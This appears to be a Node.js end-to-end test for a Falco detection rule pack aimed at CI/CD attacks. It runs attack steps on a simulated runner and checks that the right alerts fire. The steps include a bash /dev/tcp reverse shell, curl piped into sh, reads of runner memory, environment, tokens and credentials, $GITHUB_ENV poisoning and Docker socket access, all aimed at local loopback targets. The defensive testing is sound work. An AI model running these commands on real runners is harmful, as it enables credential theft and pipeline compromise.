// The CI/CD rule pack on the real Falco 0.44.1 (modern eBPF): every rule's positive case runs as a real
// process in a step of a harness job (steps are children of a process named Runner.Worker, as on a
// runner), ordinary build steps run beside them, and the summary must name each rule on the step (and
// action) that did it, and nothing of the pack on the ordinary steps. Falco's default rules stay loaded,
// with rule_matching=all: a default rule matching the same event never silences a pack rule.
import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { mkdirSync, rmSync, writeFileSync, existsSync } from 'node:fs';
import { createServer as createHttpServer, type Server as HttpServer } from 'node:http';
import { createServer as createTcpServer, type Server as TcpServer, type Socket } from 'node:net';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { RunnerJob } from '../support/harness.ts';
import { falcoImage, repoPath, requireDocker, requireRegistryImage } from '../support/env.ts';
import { alertTable, falcoContainersLeft, jobsOfThisRun, liveFixture, removeLeftovers, stepAlertRows, uniqueRunId } from './live-support.ts';

const fixture = liveFixture();
const COMPROMISED_ACTION = repoPath('test', 'fixtures', 'actions', 'compromised');

// Local peers for the network cases: an "installer" served over HTTP and a listener for the reverse shell.
let installer: HttpServer | undefined;
let listener: TcpServer | undefined;
const sockets = new Set<Socket>();
before(async () => {
  installer = createHttpServer((_request, response) => response.end('echo installed\n'));
  listener = createTcpServer((socket) => {
    sockets.add(socket);
    socket.on('close', () => sockets.delete(socket));
    socket.on('error', () => undefined);
    socket.end();
  });
  await new Promise<void>((resolveListen) => installer!.listen(0, '127.0.0.1', resolveListen));
  await new Promise<void>((resolveListen) => listener!.listen(0, '127.0.0.1', resolveListen));
});
after(async () => {
  for (const socket of sockets) socket.destroy();
  await new Promise((resolveClose) => installer?.close(resolveClose));
  await new Promise((resolveClose) => listener?.close(resolveClose));
});

/** A GitHub-hosted runner's checkout lives under /home/runner/work/REPO/REPO; the pack's path rules look there. */
function hostedCheckout(): { dir: string; cleanup: () => void } {
  const created = ['/home/runner', '/home/runner/work'].filter((dir) => !existsSync(dir));
  const base = join('/home/runner/work', `fa-e2e-${randomBytes(4).toString('hex')}`);
  const dir = join(base, 'repo');
  mkdirSync(join(dir, '.github', 'workflows'), { recursive: true });
  mkdirSync(join(dir, '.git'), { recursive: true });
  writeFileSync(join(dir, '.github', 'workflows', 'ci.yml'), 'on: push\n');
  writeFileSync(join(dir, '.git', 'config'), '[http "https://github.com/"]\n\textraheader = AUTHORIZATION: basic eC1hY2Nlc3MtdG9rZW46Z2hzX2Zha2U=\n');
  return {
    dir,
    cleanup: () => {
      rmSync(base, { recursive: true, force: true });
      for (const made of created.reverse()) rmSync(made, { recursive: true, force: true });
    },
  };
}

describe('the CI/CD pack on real Falco', { concurrency: false }, () => {
  it('each attack is reported by its pack rule on the step that did it; ordinary build steps raise nothing of the pack', async (t) => {
    if (!(await requireDocker(t)) || !(await requireRegistryImage(t, falcoImage()))) return;
    const runId = uniqueRunId();
    const checkout = hostedCheckout();
    const job = await RunnerJob.create({ apiUrl: fixture.api.url, runId, jobName: 'build', runnerName: 'GitHub Actions 11' });
    try {
      const start = await job.uses(fixture.action.start, { 'falco-image': falcoImage() }, { root: fixture.action.root, name: 'Start Falco' });
      assert.equal(start.outcome, 'success', start.log.join('\n'));
      writeFileSync(join(job.root, '.credentials'), '{"scheme":"OAuth"}\n');
      const httpPort = (installer!.address() as AddressInfo).port;
      const tcpPort = (listener!.address() as AddressInfo).port;

      // Each entry: step name, script (bash -e), the pack rules it must raise. The steps run back to back,
      // as on a runner: consecutive steps share their boundary second.
      const attacks: Array<{ name: string; script: string; rules: string[] }> = [
        { name: 'Dump runner memory', script: 'exec 3</proc/$PPID/mem\nexec 3<&-\n', rules: ['Process Dumping Memory of Others'] },
        { name: 'Read runner environment', script: 'cat /proc/$PPID/environ >/dev/null\n', rules: ['Process Reading Environment Variables of Others'] },
        {
          name: 'Attach with ptrace',
          // PTRACE_SEIZE (0x4206, syscall 101 on x86_64) on a child: attached without stopping it.
          script: `perl -e '$p = fork // die; if (!$p) { sleep 2; exit 0 } syscall(101, 0x4206, $p, 0, 0) == 0 or die "ptrace: $!\\n"; waitpid($p, 0)'\n`,
          rules: ['Process Memory Access via ptrace'],
        },
        { name: 'Poison a later step', script: 'sh -c \'echo FA_E2E_INJECTED=1 >> "$GITHUB_ENV"\'\n', rules: ['Unexpected Write to Runner File Commands'] },
        { name: 'Install with curl pipe', script: `curl -fsS http://127.0.0.1:${httpPort}/install.sh | sh\n`, rules: ['Downloader Piped Into Shell'] },
        { name: 'Open a reverse shell', script: `bash -c 'exec 0<>/dev/tcp/127.0.0.1/${tcpPort} 1>&0 2>&0; echo hello'\n`, rules: ['Reverse Shell'] },
        { name: 'Talk to the Docker socket', script: 'curl -fsS --unix-socket /var/run/docker.sock http://localhost/_ping >/dev/null\n', rules: ['Docker Socket Access From Build'] },
        { name: 'Rewrite a workflow', script: `echo 'on: workflow_dispatch' > ${checkout.dir}/.github/workflows/ci.yml\n`, rules: ['Possible Workflow File Overwrite'] },
        { name: 'Read the checkout token', script: `cat ${checkout.dir}/.git/config >/dev/null\n`, rules: ['Suspicious Process Reading GitHub Token'] },
        { name: 'Read runner credentials', script: `cat ${job.root}/.credentials >/dev/null\n`, rules: ['Read of Runner Credential Files'] },
        { name: 'Search for tokens', script: 'grep -r ghp_ "$GITHUB_WORKSPACE" || true\n', rules: ['Grep Looking for GitHub Secrets'] },
        { name: 'Push to a repository', script: 'git push /nonexistent/fa-e2e.git HEAD 2>/dev/null || true\n', rules: ['Git Pushing to Repository'] },
        {
          name: 'Interpreter phones home',
          // A private network namespace of this step's own: the connection to 198.18.0.1 (not loopback) never leaves it.
          script:
            "unshare -n sh -c 'ip link set lo up && ip addr add 198.18.0.1/32 dev lo && " +
            'perl -MIO::Socket::INET -e "\\$l = IO::Socket::INET->new(LocalAddr => q(198.18.0.1), LocalPort => 8080, Listen => 1) or die; ' +
            "IO::Socket::INET->new(PeerAddr => q(198.18.0.1), PeerPort => 8080) or die q(connect failed)\"'\n",
          rules: ['Outbound Connection From Unexpected Interpreter'],
        },
      ];
      const ordinary = [
        {
          name: 'Build',
          script: [
            'mkdir -p build && printf "int main(void) { return 0; }\\n" > build/main.c',
            'tar -czf build.tgz build && ls -la >/dev/null',
            'echo "VERSION=1.2.3" >> "$GITHUB_ENV"',
            'git --version >/dev/null',
            "node -e 'require(\"node:fs\").writeFileSync(\"out.txt\", \"x\")'",
            '',
          ].join('\n'),
        },
        { name: 'Test', script: 'sh ./build.sh 2>/dev/null || true\nfind . -name "*.c" >/dev/null\nsleep 1\n' },
      ];

      const first = await job.run(ordinary[0]!.script, { name: ordinary[0]!.name });
      assert.equal(first.outcome, 'success', first.log.join('\n'));
      for (const attack of attacks) {
          const step = await job.run(attack.script, { name: attack.name });
        assert.equal(step.outcome, 'success', `${attack.name}: ${step.log.join('\n')}`);
      }
      const action = await job.uses(COMPROMISED_ACTION, {}, { root: COMPROMISED_ACTION, actionRepository: 'evil-org/changed-files', ref: 'v45', name: 'Run evil-org/changed-files@v45' });
      assert.equal(action.outcome, 'success', action.log.join('\n'));
      const last = await job.run(ordinary[1]!.script, { name: ordinary[1]!.name });
      assert.equal(last.outcome, 'success', last.log.join('\n'));

      const stop = await job.uses(fixture.action.stop, {}, { root: fixture.action.root, name: 'Stop Falco', onStart: () => fixture.api.setJobs(jobsOfThisRun(job)) });
      const summary = stop.summary;
      const table = alertTable(summary);
      for (const attack of attacks) {
        for (const rule of attack.rules) {
          assert.ok(stepAlertRows(summary, attack.name, rule).length >= 1, `${attack.name}: no "${rule}" alert on that step\n${summary}`);
        }
      }
      // rule_matching=all: Falco's default "Redirect STDOUT/STDIN to Network Connection in Container", loaded
      // first, matches the same dup2 as the pack's "Reverse Shell" (every process has a container id on
      // these machines); with Falco's default rule_matching=first the pack rule would not be reported.
      assert.ok(stepAlertRows(summary, 'Open a reverse shell', 'Redirect STDOUT/STDIN to Network Connection in Container').length >= 1, summary);
      // The compromised action: its step, and the action named as what ran.
      const actionRows = stepAlertRows(summary, 'Run evil-org/changed-files@v45', 'Process Reading Environment Variables of Others');
      assert.equal(actionRows.length, 1, summary);
      assert.match(actionRows[0]!, /evil-org\/changed-files@v45/);
      // Ordinary steps: nothing of the pack (its rules all carry the CI/CD tag's rules; check by name).
      const packRules = new Set(attacks.flatMap((attack) => attack.rules));
      for (const step of ordinary) {
        const rows = stepAlertRows(summary, step.name).filter((row) => [...packRules].some((rule) => row.includes(` ${rule} `)));
        assert.deepEqual(rows, [], `${step.name} raised pack rules\n${summary}`);
      }
      assert.ok(table.length >= attacks.length + 1, summary);
      assert.deepEqual(await falcoContainersLeft(runId), []);
    } finally {
      await job.dispose();
      await removeLeftovers(runId);
      checkout.cleanup();
    }
  });
});
